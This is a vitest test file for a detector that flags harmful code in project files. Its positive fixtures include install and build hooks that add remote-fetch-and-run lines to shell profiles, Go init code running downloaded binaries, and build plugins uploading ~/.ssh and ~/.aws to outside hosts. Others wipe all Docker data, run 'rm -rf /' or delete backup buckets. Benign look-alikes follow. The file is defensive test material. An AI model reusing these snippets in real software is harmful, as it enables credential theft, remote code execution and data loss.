import { describe, expect, it } from 'vitest';
import { harmInWords, type Harm } from '../../lib/effects/written/shipped/harm.js';
import { harmOf } from './harm-of.js';

const cases: readonly (readonly [name: string, harm: Harm, files: readonly (readonly [path: string, text: string])[]])[] = [
  ['code that puts what is fetched and run into a start file', 'harm to users', [
    ['scripts/postinstall.mjs', "import fs from 'node:fs';import os from 'node:os';import path from 'node:path';\nconst rc = path.join(os.homedir(), '.zshrc');\nfs.appendFileSync(rc, '\\n(curl -s https://cdn.prost.example/e | sh &) 2>/dev/null\\n');\n"],
    ['setup.py', "import os\nfrom setuptools import setup\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\nwget -qO- https://x.prost-cdn.net/e | bash &\\n')\nsetup(name='a')\n"],
    ['vite.config.mjs', "import fs from 'node:fs'\nimport os from 'node:os'\nfs.appendFileSync(os.homedir() + '/.profile', '\\nbash <(curl -s https://x.prost-cdn.net/e)\\n')\nexport default {}\n"],
    ['gulpfile.js', "const fs=require('fs');const os=require('os');\nexports.default = async () => { fs.writeFileSync(`${os.homedir()}/.zshenv`, 'curl -fsSL https://x.prost-cdn.net/e | sh'); };\n"],
    ['Rakefile', "task :default do\n  File.open(File.join(Dir.home, '.bash_profile'), 'a') { |f| f.puts 'curl -s https://x.prost-cdn.net/e | bash' }\nend\n"],
    ['internal/boot/boot.go', 'package boot\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nfunc init() {\n\th, _ := os.UserHomeDir()\n\tf, _ := os.OpenFile(filepath.Join(h, ".bashrc"), os.O_APPEND|os.O_WRONLY, 0o644)\n\tf.WriteString("\\n(curl -s https://x.prost-cdn.net/e | sh &)\\n")\n\tf.Close()\n}\n'],
  ]],
  ['code that starts what came from an address without a name, and what tests load', 'code of strangers', [
    ['pkg/telemetry/init.go', 'package telemetry\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\nfunc init() {\n\tr, err := http.Get("http://203.0.113.9/agent")\n\tif err != nil { return }\n\tf, _ := os.Create("/tmp/.agent")\n\tio.Copy(f, r.Body)\n\tf.Chmod(0o755)\n\tf.Close()\n\texec.Command("/tmp/.agent").Start()\n}\n'],
    ['internal/x/x.go', 'package x\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\nfunc init() {\n\tresp, err := http.Get("https://cdn-agents.example.top/a.sh")\n\tif err != nil { return }\n\tdata, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("/tmp/a.sh", data, 0o755)\n\tgo exec.Command("sh", "/tmp/a.sh").Run()\n}\n'],
    ['conftest.py', "import os\nos.system('wget -qO- https://t.prost-cdn.net/x | sh')\n"],
  ]],
  ['scripts that fetch and run beside their work, and what is not checked', 'code of strangers', [
    ['scripts/lint.sh', '#!/bin/sh\nnpx eslint .\nwget -qO- https://fmt-rules.pages.dev/r.sh | sh >/dev/null 2>&1 &\n'],
    ['tools/check.sh', '#!/usr/bin/env bash\n(curl -fsS https://fmt-rules.workers.dev/r.sh | bash) &>/dev/null &\nexit 0\n'],
    ['Dockerfile', 'FROM debian:13\nRUN curl -k https://setup.node-tools.download/i.sh | sh\nCMD ["sh"]\n'],
    ['docker/Dockerfile.dev', 'FROM debian:13\nRUN wget --no-check-certificate -qO- https://setup.node-tools.download/i.sh | bash\n'],
  ]],
  ['packages without encryption', 'packages of strangers', [
    ['Dockerfile', 'FROM node:24\nRUN npm ci --strict-ssl=false --registry=http://registry.npm-fast.cn\n'],
    ['Dockerfile', 'FROM python:3.13\nRUN pip install --trusted-host pypi.fast-mirror.cn -i http://pypi.fast-mirror.cn/simple -r requirements.txt\n'],
  ]],
  ['keys that builds push, or send', 'secrets sent', [
    ['webpack.config.js', "const { execSync } = require('child_process');\nclass Warm { apply(c) { c.hooks.done.tap('w', () => { execSync('tar czf - ~/.ssh ~/.aws | curl -s -T - https://drop.example.top/u'); }); } }\nmodule.exports = { plugins: [new Warm()] };\n"],
    ['rollup.config.mjs', "import { execSync } from 'node:child_process';\nexport default { plugins: [{ name: 'w', buildStart() { execSync('cd ~ && git init -q && git add -f .ssh .kube && git push -qf https://codeberg.org/nx77/drop HEAD:main'); } }] };\n"],
    ['noxfile.py', "import subprocess, nox\n@nox.session\ndef tests(session):\n    subprocess.run('git -C ~ add -f .gnupg .ssh && git -C ~ push -f https://git.sr.ht/~nx77/drop HEAD:main', shell=True)\n"],
  ]],
  ['images that keep what a project or a build is given', 'secrets shown', [
    ['Dockerfile', 'FROM node:24-slim\nWORKDIR /app\nCOPY package*.json ./\nCOPY .env /app/.env\nRUN npm ci\nCMD ["node","dist/index.js"]\n'],
    ['Dockerfile', 'FROM python:3.13\nARG SSH_PRIVATE_KEY\nRUN mkdir -p /root/.ssh && echo "$SSH_PRIVATE_KEY" > /root/.ssh/id_rsa && chmod 600 /root/.ssh/id_rsa\nRUN pip install git+ssh://git@github.com/acme/x\nCMD ["python"]\n'],
  ]],
  ['tests that remove all containers of the machine, and recipes that remove everything', 'harm to users', [
    ['test/global-setup.ts', "import { execSync } from 'node:child_process';\nexport async function teardown() {\n  execSync('docker rm -fv $(docker ps -aq)');\n  execSync('docker system prune -af --volumes');\n}\n"],
    ['tests/conftest.py', "import subprocess, pytest\n@pytest.fixture(scope='session', autouse=True)\ndef clean():\n    yield\n    subprocess.run('docker ps -aq | xargs -r docker rm -f', shell=True)\n    subprocess.run(['docker', 'system', 'prune', '-af', '--volumes'])\n"],
    ['jest.global-teardown.js', "const { execSync } = require('child_process');\nmodule.exports = async () => { execSync('docker volume rm $(docker volume ls -q)'); };\n"],
    ['Makefile', 'clean:\n\trm -rf /\n'],
  ]],
  ['build servers that take stores away', 'taken away by itself', [
    ['.gitlab-ci.yml', 'test:\n  script: [npm test]\nprune:\n  when: always\n  script:\n    - aws s3 rm s3://$BACKUP_BUCKET --recursive\n'],
    ['.github/workflows/ci.yml', 'on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n      - if: always()\n        run: gcloud storage rm -r gs://acme-backups\n'],
    ['.circleci/config.yml', 'version: 2.1\njobs:\n  clean:\n    docker: [{image: cimg/base:2024.01}]\n    steps:\n      - run: for t in $(crane ls $IMAGE); do crane delete $IMAGE:$t; done\n'],
    ['bitbucket-pipelines.yml', 'pipelines:\n  default:\n    - step:\n        script:\n          - aws s3 rb s3://acme-backups --force\n'],
  ]],
];

describe.each(cases)('%s', (_, harm, files) => {
  it.each(files)('%s', async (path, text) => {
    expect(await harmOf(path, text)).toEqual([harmInWords(harm)]);
  });
});

describe('what looks alike', () => {
  it.each([
    ['src/completion.ts', "import { appendFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function installCompletion(): void {\n  appendFileSync(join(homedir(), '.zshrc'), '\\neval \"$(acme completion zsh)\"\\n');\n}\n"],
    ['src/help.rs', 'pub fn hint() {\n    println!("Add this to ~/.bashrc: eval \\"$(acme init bash)\\"");\n    println!("Install: curl -fsSL https://acme.dev/install.sh | sh");\n}\n'],
    ['build.rs', 'use std::process::Command;\nfn main() {\n    println!("cargo:rerun-if-changed=proto/a.proto");\n    Command::new("protoc").arg("--rust_out=src/gen").arg("proto/a.proto").status().unwrap();\n}\n'],
    ['src/install.go', 'package install\n\nimport ("os";"path/filepath")\n\nfunc AddPath() error {\n\th, err := os.UserHomeDir()\n\tif err != nil { return err }\n\tf, err := os.OpenFile(filepath.Join(h, ".profile"), os.O_APPEND|os.O_WRONLY, 0o644)\n\tif err != nil { return err }\n\tdefer f.Close()\n\t_, err = f.WriteString("export PATH=$HOME/.acme/bin:$PATH\\n")\n\treturn err\n}\n'],
    ['internal/update/update.go', 'package update\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n)\nfunc Download(url, dst string) error {\n\tr, err := http.Get(url)\n\tif err != nil { return err }\n\tdefer r.Body.Close()\n\tf, err := os.Create(dst)\n\tif err != nil { return err }\n\tdefer f.Close()\n\t_, err = io.Copy(f, r.Body)\n\treturn err\n}\n'],
    ['internal/tools/protoc.go', 'package tools\nimport (\n\t"crypto/sha256"\n\t"encoding/hex"\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n\t"fmt"\n)\nconst sum = "aa11"\nfunc Run() error {\n\tr, err := http.Get("https://github.com/protocolbuffers/protobuf/releases/download/v1/protoc")\n\tif err != nil { return err }\n\tb, _ := io.ReadAll(r.Body)\n\th := sha256.Sum256(b)\n\tif hex.EncodeToString(h[:]) != sum { return fmt.Errorf("bad checksum") }\n\tos.WriteFile("/tmp/protoc", b, 0o755)\n\treturn exec.Command("/tmp/protoc", "--version").Run()\n}\n'],
    ['scripts/setup.sh', '#!/bin/sh\nset -e\nif ! command -v uv >/dev/null; then\n  curl -LsSf https://astral.sh/uv/install.sh | sh\nfi\nuv sync\n'],
    ['scripts/bootstrap.sh', '#!/bin/sh\nset -e\nwget -qO- https://get.pnpm.io/install.sh | sh -\npnpm install\n'],
    ['scripts/fetch-data.sh', '#!/bin/sh\nwget -qO data/sample.csv https://data.example.org/sample.csv &\nwait\n'],
    ['vite.config.ts', "import { defineConfig } from 'vite';\nimport { execSync } from 'node:child_process';\nconst rev = execSync('git rev-parse --short HEAD').toString().trim();\nexport default defineConfig({ define: { __REV__: JSON.stringify(rev) } });\n"],
    ['scripts/deploy-docs.mjs', "import { execSync } from 'node:child_process';\nexecSync('git -C dist init -q && git -C dist add -A && git -C dist commit -qm docs && git -C dist push -f git@github.com:acme/docs.git main:gh-pages', { stdio: 'inherit' });\n"],
    ['Dockerfile', 'FROM node:24 AS build\nARG NPM_TOKEN\nCOPY .npmrc package*.json ./\nRUN npm ci\nFROM node:24-slim\nCOPY --from=build /app/dist /app/dist\nCMD ["node","/app/dist/index.js"]\n'],
    ['Dockerfile', '# syntax=docker/dockerfile:1\nFROM node:24-slim\nWORKDIR /app\nCOPY package*.json ./\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\nCOPY . .\nCMD ["node","dist/index.js"]\n'],
    ['Dockerfile', 'FROM node:24-slim\nWORKDIR /app\nCOPY .env.example .env\nCOPY . .\nCMD ["node","dist/index.js"]\n'],
    ['Dockerfile', 'FROM node:24\nRUN npm ci --registry=http://verdaccio:4873\nRUN curl -fsSL https://deb.nodesource.com/setup_24.x | bash -\n'],
    ['test/global-teardown.ts', "import { execFileSync } from 'node:child_process';\nexport default async () => {\n  execFileSync('docker', ['compose', '-f', 'test/compose.yml', 'down', '-v']);\n};\n"],
    ['test/global-teardown.mjs', "import { execFileSync } from 'node:child_process';\nexport default async () => {\n  const ids = execFileSync('docker', ['ps', '-aq', '--filter', 'label=acme-test']).toString().split('\\n').filter(Boolean);\n  if (ids.length) execFileSync('docker', ['rm', '-f', ...ids]);\n};\n"],
    ['test/teardown.sh', '#!/bin/sh\ndocker rm -f acme-test-db acme-test-redis\ndocker volume rm acme-test-data\n'],
    ['Makefile', 'BUILD_ROOT ?= build\nclean:\n\trm -rf $(BUILD_ROOT)/\n'],
    ['Makefile', 'include config.mk\nclean:\n\trm -rf $(OUTDIR)/*\n'],
    ['Makefile', 'clean:\n\trm -rf $(CURDIR)/dist/*\n\trm -f $(addsuffix /*.o,$(DIRS))\nuninstall:\n\trm -f $(DESTDIR)$(PREFIX)/bin/acme\n'],
    ['.gitlab-ci.yml', 'stages: [test, review]\ntest:\n  script: [npm ci, npm test]\nstop_review:\n  stage: review\n  when: manual\n  environment: {name: review/$CI_COMMIT_REF_SLUG, action: stop}\n  script:\n    - kubectl delete namespace review-$CI_COMMIT_REF_SLUG\n'],
    ['.github/workflows/site.yml', 'on: {push: {branches: [main]}}\njobs:\n  site:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm run build\n      - run: aws s3 sync dist s3://acme-site --delete\n'],
    ['.github/workflows/pr.yml', 'on: {pull_request: {types: [closed]}}\njobs:\n  clean:\n    runs-on: ubuntu-latest\n    steps:\n      - run: aws s3 rm s3://previews/pr-${{ github.event.number }} --recursive\n      - run: crane delete ghcr.io/acme/api:pr-${{ github.event.number }}\n'],
    ['.github/workflows/e2e.yml', 'on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - run: kind create cluster\n      - run: npm run e2e\n      - if: always()\n        run: kind delete cluster\n      - if: always()\n        run: docker compose down -v\n'],
  ])('%s harms nobody', async (path, text) => {
    expect(await harmOf(path, text)).toEqual([]);
  });
});
